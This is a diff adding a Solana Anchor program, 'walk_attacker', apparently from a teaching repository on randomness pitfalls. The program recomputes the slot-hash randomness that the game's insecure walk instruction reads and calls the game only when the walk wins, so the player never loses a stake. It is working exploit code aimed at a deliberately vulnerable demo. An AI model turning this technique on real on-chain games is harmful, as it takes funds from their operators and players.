@@ -0,0 +1,51 @@
+use anchor_lang::prelude::*;
+use randomness_pitfalls::cpi::accounts::WalkInsecure;
+use randomness_pitfalls::program::RandomnessPitfalls;
+use randomness_pitfalls::random;
+use randomness_pitfalls::state::house::House;
+
+// this key needs to be changed to whatever public key is returned by "anchor keys list"
+declare_id!("Bum68t6urXX4RVaj1tHziWNqZyAe7QTEnqjaoPfseYzL");
+
+/// Beats `walk_insecure` by repeating its computation in the same transaction and only
+/// playing walks that win.
+#[program]
+pub mod walk_attacker {
+    use super::*;
+
+    pub fn attack(ctx: Context<Attack>, stake: u64) -> Result<()> {
+        // the slot hash the game is about to read is right here as well
+        let randomness =
+            random::slot_hash_randomness(&ctx.accounts.slot_hashes, &ctx.accounts.player.key())?;
+        if !random::wins(random::walk(&randomness)) {
+            msg!("this walk loses, not playing it");
+            return Ok(());
+        }
+
+        randomness_pitfalls::cpi::walk_insecure(
+            CpiContext::new(
+                ctx.accounts.randomness_pitfalls_program.to_account_info(),
+                WalkInsecure {
+                    house: ctx.accounts.house.to_account_info(),
+                    player: ctx.accounts.player.to_account_info(),
+                    slot_hashes: ctx.accounts.slot_hashes.to_account_info(),
+                    system_program: ctx.accounts.system_program.to_account_info(),
+                },
+            ),
+            stake,
+        )
+    }
+}
+
+#[derive(Accounts)]
+pub struct Attack<'info> {
+    #[account(mut)]
+    pub house: Account<'info, House>,
+    // the player's signature extends to the CPI
+    #[account(mut)]
+    pub player: Signer<'info>,
+    /// CHECK: checked by the game, read the same way it does
+    pub slot_hashes: UncheckedAccount<'info>,
+    pub randomness_pitfalls_program: Program<'info, RandomnessPitfalls>,
+    pub system_program: Program<'info, System>,
+}